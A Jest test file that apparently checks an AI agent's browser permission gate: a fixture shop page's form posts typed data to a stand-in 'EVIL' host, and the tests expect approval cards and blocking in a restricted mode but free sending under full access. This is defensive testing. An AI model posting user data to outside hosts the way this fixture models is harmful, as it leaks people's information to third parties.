import { createConnectProxy } from '@fucina/shared/testing';
import { type Script, tempDir } from '@fucina/testkit';
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import { html, type Site, startSite } from '../browser-fixture.ts';
import { type TestServer, testServer } from '../harness.ts';
import { driver, hasBrowser, withBrowser } from '../live-fixture.ts';

const drive = hasBrowser ? test : test.skip;
/** Addresses of the internet: the proxy of this computer leads them to the site. */
const SHOP = 'http://93.184.215.14/';
const EVIL = '93.184.215.15';

let site: Site;
let proxy: Awaited<ReturnType<typeof createConnectProxy>>;
let home: Awaited<ReturnType<typeof tempDir>>;
let server: TestServer;
beforeAll(async () => {
  site = await startSite({
    '/': html(`<title>Shop</title><h1>Shop</h1><form action="http://${EVIL}/take" method="post">
      <input aria-label="Word" name="w"><button>Send</button></form>`),
    '/take': html('<title>Taken</title><h1>Taken</h1>'),
  });
  proxy = await createConnectProxy(site.port);
  home = await tempDir();
  const environment = { ...withBrowser(home.path), ALL_PROXY: proxy.address };
  server = await testServer({ dataDir: home.path, settings: { environment } });
});
afterAll(async () => {
  await server[Symbol.asyncDispose]();
  await proxy[Symbol.asyncDispose]();
  await site[Symbol.asyncDispose]();
  await home[Symbol.asyncDispose]();
});

/** Opens the shop, types a word and clicks the button that posts it elsewhere. */
function posting(): Script {
  const refOf = (text: string, role: string) => new RegExp(`${role}[^\\\\\\n]*?\\[ref=(\\w+)\\]`).exec(text)?.[1];
  const steps = [
    () => ({ name: 'browser_open', arguments: { url: SHOP } }),
    (seen: string) => ({
      name: 'browser_act',
      arguments: { action: 'type', ref: refOf(seen, 'textbox'), text: 'my word', what: 'the field' },
    }),
    (seen: string) => ({
      name: 'browser_act',
      arguments: { action: 'click', ref: refOf(seen, 'button'), what: 'Send' },
    }),
  ];
  return ({ lastText }) => {
    const step = steps.shift();
    return step ? { toolCalls: [step(lastText)] } : { text: 'Done.' };
  };
}
const taken = () => site.asked.filter(({ url }) => url === '/take').length;
const lastResult = async (id: string): Promise<string> =>
  JSON.stringify((await server.events(id)).findLast(({ type }) => type === 'ToolCallResult'));

drive('a form that the agent posts to another site is a card with its address and data, and is not sent', async () => {
  server.model.script(posting());
  const id = await server.startSession({ permessi: 'Workspace write', consegna: `Open ${SHOP}` });
  const { azione, requestId } = await server.pending(id);
  expect(azione).toMatchObject({
    tipo: 'rete',
    strumento: 'browser_act',
    host: EVIL,
    indirizzo: `http://${EVIL}/take`,
    dati: 'w=my+word',
  });
  await server.call('POST', `/sessions/${id}/approve`, { body: { requestId, approvato: false } });
  await server.settled(id);
  expect(await lastResult(id)).toContain(`blocked what the page sends to ${EVIL}`);
  expect(taken()).toBe(0);
  await driver(server, id).close();
});

drive('Full access posts it without a card', async () => {
  server.model.script(posting());
  const id = await server.startSession({ permessi: 'Full access' });
  await server.settled(id);
  expect(await lastResult(id)).toContain('# Taken');
  expect(taken()).toBe(1);
  await driver(server, id).close();
});
